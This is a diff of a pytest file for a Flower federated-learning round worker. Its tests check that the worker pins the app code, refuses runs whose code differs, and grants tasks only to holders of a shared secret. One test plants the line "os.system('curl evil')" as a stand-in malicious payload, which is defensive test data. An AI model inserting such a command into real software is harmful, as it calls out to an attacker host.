@@ -1,115 +1,126 @@
-"""The warm round worker: what the ClientApp forwards is answered by the same round code, behind a secret."""
+"""The warm round worker: it alone takes its SuperNode's tasks, answers them with the round code, and pins the app."""
 
 from __future__ import annotations
 
-import os
-import sys
-import threading
+import io
+import subprocess
 import time
+import zipfile
 
+import httpx
+import numpy as np
 import pytest
+from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
+from flwr.proto.runtime_pb2 import AcquireTaskRequest  # pylint: disable=no-name-in-module
+from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
+from flwr.supercore.interceptors.http.superexec_auth import SuperExecAuthHttpInterceptor
+from flwr.supercore.retry import make_simple_http_retry_invoker
+from flwr.supercore.runtime import RuntimeHttpClient
+from flwr.supercore.task_identity import TaskIdentity
 
-from client.client_app import app as client_app
-from client.forwarder import WORKER_KEY, WORKER_SOCKET, WorkerError
-from client.rounds import STATE_PRIVACY
-from client.worker import serve
-from server.coordinator import run_federation
-from simulations.inprocess import InProcessGrid
-from tests.conftest import tiny_run
-
-
-def _worker(tmp_path, secret: bytes = b"s" * 32, max_messages: int | None = None):
-    key = tmp_path / "secret"
-    key.write_bytes(secret)
-    socket = str(tmp_path / "round.sock")
-    thread = threading.Thread(target=serve, args=(socket, key), kwargs={"max_messages": max_messages}, daemon=True)
-    thread.start()
-    return socket, key, thread
+import client.worker as worker
+from client.app_pin import CODE_ROOT
+from client.daemon import supernode_command
+from client.worker import ACQUIRE, RoundWorker
+from fedprofile.federation import free_port
+from shared_model.packing import PACKED
 
 
-def _nodes(socket, key, n=2):
-    return [{"partition-id": i, "num-partitions": n, WORKER_SOCKET: socket, WORKER_KEY: str(key)} for i in range(n)]
+def _fab(files: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
 
 
-def test_a_federation_through_the_worker_matches_one_in_process(tmp_path):
-    run = tiny_run(tmp_path, num_rounds=2, local_epochs=1)
-    socket, key, thread = _worker(tmp_path, max_messages=8)  # 2 rounds x 2 merchants x (train + evaluate)
-    grid = InProcessGrid(client_app, 2, node_configs=_nodes(socket, key))
-    forwarded = run_federation(grid, run)
-    thread.join(timeout=60)
-    assert not thread.is_alive()  # it answered exactly the 8 messages the federation sent
-    direct = run_federation(InProcessGrid(client_app, 2), run.replace(run_dir=str(tmp_path / "direct")))
-    assert forwarded.rounds_completed == direct.rounds_completed == 2
-    assert forwarded.epsilon == pytest.approx(direct.epsilon)  # the same ledger, spent the same way
-    assert [sorted(row["merchants-trained"]) for row in forwarded.history] == \
-        [sorted(row["merchants-trained"]) for row in direct.history]
-    # the worker's context state came back to the SuperNode's context: the ledger persists between messages
-    assert all(STATE_PRIVACY in context.state for context in grid.contexts.values())
-
-
-def test_the_client_app_imports_no_torch_when_it_forwards():
-    import subprocess
-
-    code = "import sys, client.client_app, client.forwarder; print('torch' in sys.modules)"
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True)
-    assert done.stdout.strip() == "False"
-
-
-def test_a_connection_without_the_secret_gets_no_reply(tmp_path):
-    socket, key, thread = _worker(tmp_path, secret=b"right" * 8)
-    wrong = tmp_path / "wrong"
-    wrong.write_bytes(b"wrong" * 8)
-    run = tiny_run(tmp_path, num_rounds=1, local_epochs=1)
-    with pytest.raises(WorkerError, match="closed the connection"):
-        run_federation(InProcessGrid(client_app, 2, node_configs=_nodes(socket, wrong)), run)
-    assert (tmp_path / "round.sock").stat().st_mode & 0o077 == 0  # only its owner may even connect
-
-
-def test_no_worker_is_a_clear_error(tmp_path):
-    from flwr.app import Context, Message, RecordDict
-
-    from client.forwarder import forward
-
-    context = Context(run_id=1, node_id=1, node_config={WORKER_SOCKET: str(tmp_path / "none.sock"),
-                                                        WORKER_KEY: str(tmp_path / "key")},
-                      state=RecordDict(), run_config={})
-    msg = Message(content=RecordDict(), message_type="train", dst_node_id=1)
-    with pytest.raises(WorkerError, match="no round worker answers"):
-        forward(msg, context, wait=0.3)
-
-
-def test_a_client_that_connects_and_sends_nothing_holds_up_no_one(tmp_path, monkeypatch):
-    from multiprocessing.connection import Client
-
-    import client.worker as worker
-
-    monkeypatch.setattr(worker, "FRAME_WAIT", 0.5)
-    socket, key, thread = _worker(tmp_path, secret=b"k" * 32, max_messages=8)
-    deadline = time.time() + 30
-    while not os.path.exists(socket) and time.time() < deadline:  # the worker thread is still binding
-        time.sleep(0.05)
-    stalled = Client(socket, family="AF_UNIX")  # connects, then never sends its secret
-    try:
-        run = tiny_run(tmp_path, num_rounds=2, local_epochs=1)
-        result = run_federation(InProcessGrid(client_app, 2, node_configs=_nodes(socket, key)), run)
-        assert result.rounds_completed == 2
-    finally:
-        stalled.close()
-    thread.join(timeout=60)
-    assert not thread.is_alive()
-
-
-def test_a_message_whose_arrays_do_not_unpack_is_refused_before_anything_runs():
-    import numpy as np
-    from flwr.app import Array, ArrayRecord, Context, Message, RecordDict
-
-    from client.rounds import handle
-    from shared_model.packing import PACKED
-
-    context = Context(run_id=1, node_id=1, node_config={"partition-id": 0, "num-partitions": 2, "merchant-name": "m"},
-                      state=RecordDict(), run_config={})
+def _unpackable(node: int = 1) -> tuple[Message, Context]:
+    """An evaluate message the round code refuses before anything runs (packed arrays without their layout)."""
+    TaskIdentity.task_id, TaskIdentity.run_id, TaskIdentity.node_id = 1, 1, node  # as pulling a task sets them
+    context = Context(run_id=1, node_id=node, node_config={"partition-id": 0, "num-partitions": 2,
+                                                           "merchant-name": "m"}, state=RecordDict(), run_config={})
     msg = Message(content=RecordDict({"arrays": ArrayRecord({PACKED: Array(np.zeros(8, np.uint8))})}),
-                  message_type="evaluate", dst_node_id=1)  # packed, but no layout came with it
-    reply = handle(msg, context)
+                  message_type="evaluate", dst_node_id=node)
+    return msg, context
+
+
+OURS = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
+             "client/rounds.py": (CODE_ROOT / "client" / "rounds.py").read_bytes()})
+
+
+def test_our_own_app_is_answered_by_the_round_code():
+    msg, context = _unpackable()
+    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, OURS, "ours")
+    assert not reply.has_error()
     assert "do not unpack" in str(reply.content.config_records["merchant"]["refused"])
     assert not reply.content.metric_records and not reply.content.array_records
+
+
+def test_a_run_whose_app_differs_gets_an_error_reply_and_no_round_code_runs(monkeypatch):
+    ran = []
+    monkeypatch.setattr(worker, "handle", lambda *args: ran.append(args))
+    theirs = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
+                   "client/rounds.py": b"import os; os.system('curl evil')\n"})
+    msg, context = _unpackable()
+    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, theirs, "theirs")
+    assert reply.has_error() and "refused the run's app" in reply.error.reason and "client/rounds.py" in reply.error.reason
+    assert ran == []
+
+
+def test_the_round_code_raising_is_an_error_reply_and_the_worker_stays(monkeypatch):
+    def broken(msg, context):
+        raise RuntimeError("disk full")
+
+    monkeypatch.setattr(worker, "handle", broken)
+    msg, context = _unpackable()
+    round_worker = RoundWorker("127.0.0.1:1", b"k" * 32)
+    reply = round_worker.answer(msg, context, OURS, "ours")
+    assert reply.has_error() and "RuntimeError: disk full" in reply.error.reason
+    assert "ours" in round_worker.accepted_fabs  # the app was fine; only this message failed
+
+
+def test_an_empty_secret_is_refused():
+    with pytest.raises(ValueError, match="shared secret"):
+        RoundWorker("127.0.0.1:1", b"")
+
+
+def _acquire(port: int, secret: bytes | None):
+    """AcquireTask at the SuperNode's Runtime API; the HTTP error when refused or not up."""
+    retry = make_simple_http_retry_invoker()
+    retry.should_giveup = lambda exc: True  # Flower's own gives up by interrupting this process
+    interceptors = [RuntimeVersionHttpInterceptor(component_name="SuperExec")]
+    if secret is not None:
+        interceptors.append(SuperExecAuthHttpInterceptor(master_secret=secret, protected_methods={ACQUIRE}))
+    client = RuntimeHttpClient.from_server_address(server_address=f"127.0.0.1:{port}", insecure=True,
+                                                   root_certificates=None, interceptors=interceptors,
+                                                   retry_invoker=retry)
+    try:
+        return client.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))
+    except httpx.HTTPError as exc:  # refused, or not listening yet
+        return exc
+    finally:
+        client.close()
+
+
+@pytest.mark.processes
+def test_only_the_holder_of_the_secret_may_take_a_supernodes_tasks(tmp_path):
+    """The daemon's SuperNode command, started for real: its tasks go to whoever shows the secret, nobody else."""
+    secret = tmp_path / "secret"
+    secret.write_bytes(b"s" * 32)
+    port = free_port()
+    # no SuperLink answers at this address: the SuperNode retries it while its Runtime API serves
+    cmd = supernode_command(superlink="127.0.0.1:9", node_config={"merchant-name": "m"}, root_certificates=None,
+                            auth_key=None, clientapp_port=port, worker_secret=secret)
+    assert cmd[cmd.index("--host") + 1] == "127.0.0.1" and cmd[cmd.index("--isolation") + 1] == "process"
+    process = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=CODE_ROOT)
+    try:
+        deadline = time.time() + 60
+        while isinstance(answer := _acquire(port, secret.read_bytes()), Exception) and time.time() < deadline:
+            time.sleep(0.3)  # still starting
+        assert not isinstance(answer, Exception) and not answer.HasField("task")  # taken: none pending yet
+        for wrong in (b"w" * 32, None):
+            refused = _acquire(port, wrong)
+            assert isinstance(refused, httpx.HTTPStatusError) and refused.response.status_code == 401
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
